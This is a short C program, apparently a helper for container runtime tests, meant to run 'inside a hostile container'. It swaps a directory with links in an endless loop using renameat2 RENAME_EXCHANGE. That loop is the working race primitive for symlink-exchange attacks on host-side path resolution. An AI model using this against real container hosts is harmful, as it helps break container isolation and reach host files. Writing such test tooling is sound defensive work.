// Exchanges a directory for links at full speed: swap DIR LINK... renames each LINK with DIR in turn.
// Run inside a hostile container; says "swapping" first.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  if (write(1, "swapping\n", 9) != 9) return 1;
  for (unsigned long n = 0;; n++) {
    const char* link = argv[2 + n % (argc - 2)];
    if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, link, RENAME_EXCHANGE) < 0) continue;
    renameat2(AT_FDCWD, argv[1], AT_FDCWD, link, RENAME_EXCHANGE);
  }
}
